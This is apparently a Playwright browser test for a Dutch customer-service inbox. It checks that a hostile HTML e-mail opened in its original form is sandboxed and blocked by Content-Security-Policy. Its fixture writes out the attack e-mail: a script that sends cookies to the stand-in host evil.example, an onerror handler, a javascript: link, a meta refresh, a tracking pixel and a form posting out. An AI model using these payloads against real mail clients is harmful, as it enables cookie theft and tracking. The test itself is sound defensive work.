"""D2 in real Chromium: a hostile e-mail's original HTML, opened from the timeline, runs no
script (not inline, not a handler, not a javascript: link), submits no form, follows no
<meta refresh> or <base>, and loads nothing from another host (@import, <link>, <img>,
<iframe>, CSS backgrounds) — in the inbox's sandboxed frame and when opened on its own."""

import textwrap

import pytest

from tests.browser.live_server import live_env, run_python, serving
from tests.browser.test_live_inbox import LIVE, log_in

pytestmark = [pytest.mark.browser, pytest.mark.live]

HOSTILE = textwrap.dedent(
    """\
    From: Karin Klant <karin@example.nl>
    To: service@bedrijf.nl
    Subject: Mijn factuur klopt niet
    Message-ID: <hostile-1@example.nl>
    MIME-Version: 1.0
    Content-Type: text/html; charset=utf-8

    <html><head>
    <base href="http://evil.example/">
    <meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
    <link rel="stylesheet" href="http://evil.example/link.css">
    <style>@import url(http://evil.example/import.css);
    body { background: url(http://evil.example/bg.png) }</style>
    </head><body>
    <p id="mark" style="color: rgb(0, 128, 0)">onaangetast</p>
    <p>Mijn factuur klopt niet.</p>
    <script>document.getElementById('mark').textContent = 'SCRIPT';
    new Image().src = 'http://evil.example/script?c=' + document.cookie</script>
    <img src="broken" onerror="document.getElementById('mark').textContent = 'HANDLER'">
    <img src="http://tracker.evil.example/open.gif" alt="pixel">
    <img src="relative-via-base.png" alt="base">
    <iframe src="http://evil.example/frame"></iframe>
    <a id="js" href="javascript:document.getElementById('mark').textContent = 'LINK'">js</a>
    <form action="http://evil.example/post" method="post"><button id="send">verstuur</button>
    </form>
    </body></html>
    """
).replace("\n", "\r\n")

SETUP = textwrap.dedent(
    f"""
    import django
    django.setup()
    from bereikbaar.channels.email.receive import store
    from bereikbaar.conversations.models import Message
    from bereikbaar.intake.worker import drain
    store({HOSTILE.encode()!r}, to=["service@bedrijf.nl"])
    drain()
    message = Message.objects.get(channel="email")
    print(message.conversation_id, message.pk)
    """
)


@pytest.fixture
def server(tmp_path):
    from tests.browser.conftest import need_chromium
    from tests.browser.live_server import SETUP as CAST

    need_chromium()
    with live_env(tmp_path) as env:
        run_python(CAST, env, timeout=120)
        conversation, message = run_python(SETUP, env).split()
        with serving(env, tmp_path) as base_url:
            yield base_url, int(conversation), int(message)


class Network:
    """What the page's context asks for on another host. Chromium reports a request it then
    refuses under the Content-Security-Policy too (failure "csp"); one that would really leave
    reaches the route, which records and aborts it, so nothing leaves this machine."""

    def __init__(self, page, base_url: str) -> None:
        self.left: list[str] = []
        self.asked: list[str] = []
        self.refused: list[str] = []
        self.console: list[str] = []
        context, mine = page.context, base_url + "/"
        context.route(lambda url: not url.startswith(mine), self._leave)
        context.on(
            "request", lambda r: None if r.url.startswith(mine) else self.asked.append(r.url)
        )
        context.on("requestfailed", self._failed)
        context.on("console", lambda m: self.console.append(m.text))

    def _leave(self, route) -> None:
        self.left.append(route.request.url)
        route.abort()

    def _failed(self, request) -> None:
        if request.failure == "csp":
            self.refused.append(request.url)


def untouched(frame) -> None:
    from playwright.sync_api import expect

    expect(frame.locator("#mark")).to_have_text("onaangetast")


def test_the_original_runs_nothing_and_loads_nothing_remote(server, browser):
    from playwright.sync_api import expect

    base_url, conversation, message = server
    errors: list[str] = []
    anna = log_in(browser, base_url, "anna", errors)
    network = Network(anna, base_url)

    anna.goto(f"{base_url}/conversations/{conversation}/")
    anna.get_by_role("link", name="Originele opmaak tonen").click()
    expect(anna.get_by_role("heading", name="Originele opmaak")).to_be_visible(timeout=LIVE)
    assert anna.locator("iframe").get_attribute("sandbox") == ""
    frame = anna.frame_locator("iframe")
    expect(frame.get_by_text("Mijn factuur klopt niet.")).to_be_visible(timeout=LIVE)
    # the inline style survived (style-src 'unsafe-inline'): this is the original, not the copy
    expect(frame.locator("#mark")).to_have_css("color", "rgb(0, 128, 0)")
    frame.locator("#js").click()
    frame.locator("#send").click()
    anna.wait_for_timeout(1500)  # the <meta refresh> would have fired by now
    expect(frame.locator("#mark")).to_have_text("onaangetast")  # no script, handler or link ran
    assert anna.frames[1].url.endswith(f"/messages/{message}/original/html")
    assert "http://tracker.evil.example/open.gif" in network.refused

    # Opened on its own, the response's Content-Security-Policy sandboxes it just the same.
    alone = anna.context.new_page()
    original = f"{base_url}/conversations/{conversation}/messages/{message}/original/html"
    assert alone.goto(original).status == 200
    alone.locator("#js").click()
    alone.wait_for_timeout(1500)
    expect(alone.locator("#mark")).to_have_text("onaangetast")
    assert alone.url == original

    assert network.left == []
    assert set(network.asked) <= set(network.refused)
    sandboxed = [line for line in network.console if "sandboxed" in line]
    assert any("allow-scripts" in line for line in sandboxed)
    assert any("allow-forms" in line for line in sandboxed)
    assert errors == []

    # The watch itself works: a page with no policy does send its pixel, and it is caught.
    control = anna.context.new_page()
    control.set_content('<img src="http://control.evil.example/pixel.gif">')
    control.wait_for_timeout(500)
    assert network.left == ["http://control.evil.example/pixel.gif"]
